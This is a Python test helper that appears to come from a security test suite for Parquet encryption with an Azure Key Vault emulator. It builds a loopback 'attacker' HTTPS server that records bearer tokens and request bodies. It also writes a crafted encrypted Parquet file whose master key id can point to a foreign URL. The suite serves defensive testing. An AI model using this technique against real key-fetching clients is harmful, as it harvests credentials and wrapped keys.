"""A hostile HTTPS server on loopback that records every connection and request, and a crafted PME file.

The server presents the Key Vault emulator's own certificate (same throwaway CA), so a client that trusts the
emulator would also complete TLS with it: the strongest position for the attacker. A client that resolves a
PME key id from the file it reads would POST its bearer token and the wrapped key here.
"""

from __future__ import annotations

import base64
import os
import socket
import ssl
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pyarrow.parquet.encryption as pe

from kv_emulator import KeyVaultEmulator


class AttackerServer:
    def __init__(self, kv: KeyVaultEmulator) -> None:
        self.connections = 0
        self.requests: list[dict[str, str]] = []
        self._lock = threading.Lock()
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(kv._cert, kv._key)  # noqa: SLF001 - the emulator's own leaf: trusted by victims
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - quiet
                pass

            def _record(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(min(length, 1 << 20)).decode("latin-1")
                with owner._lock:
                    owner.requests.append(
                        {"method": self.command, "path": self.path, "auth": self.headers.get("Authorization", ""),
                         "body": body}
                    )
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.end_headers()
                self.wfile.write(b'{"kid": "x", "value": "AAAA"}')

            do_GET = do_POST = do_PUT = _record  # noqa: N815

        class Server(ThreadingHTTPServer):
            daemon_threads = True

            def get_request(self) -> tuple[socket.socket, Any]:
                raw, address = self.socket.accept()
                with owner._lock:
                    owner.connections += 1  # counted before TLS: even a refused handshake is a contact
                return context.wrap_socket(raw, server_side=True), address

            def handle_error(self, request: Any, client_address: Any) -> None:
                pass

        self._server = Server(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self.url = f"https://127.0.0.1:{self.port}"
        self._thread = threading.Thread(target=self._server.serve_forever, name="attacker", daemon=True)
        self._thread.start()

    @property
    def contacts(self) -> int:
        with self._lock:
            return self.connections + len(self.requests)

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


class _AnyKeyClient(pe.KmsClient):
    """The attacker's writer: "wraps" with random bytes under whatever master key id it is given."""

    def __init__(self, config: pe.KmsConnectionConfig) -> None:
        pe.KmsClient.__init__(self)

    def wrap_key(self, key_bytes: bytes, master_key_identifier: str) -> str:
        return base64.b64encode(os.urandom(256)).decode("ascii")

    def unwrap_key(self, wrapped_key: str, master_key_identifier: str) -> bytes:
        raise AssertionError("the attacker's writer never unwraps")


def crafted_pme_file(path: Path, master_key_id: str, rows: int = 50) -> Path:
    """A PME (encrypted footer) Parquet file whose key material names ``master_key_id`` (e.g. a foreign URL)."""
    table = pa.table({"id": list(range(rows)), "s": [f"v{i}" for i in range(rows)]})
    factory = pe.CryptoFactory(_AnyKeyClient)
    config = pe.EncryptionConfiguration(
        footer_key=master_key_id, uniform_encryption=True, encryption_algorithm="AES_GCM_V1"
    )
    properties = factory.file_encryption_properties(pe.KmsConnectionConfig(kms_instance_id="azure"), config)
    path.parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(table, path, encryption_properties=properties)
    return path
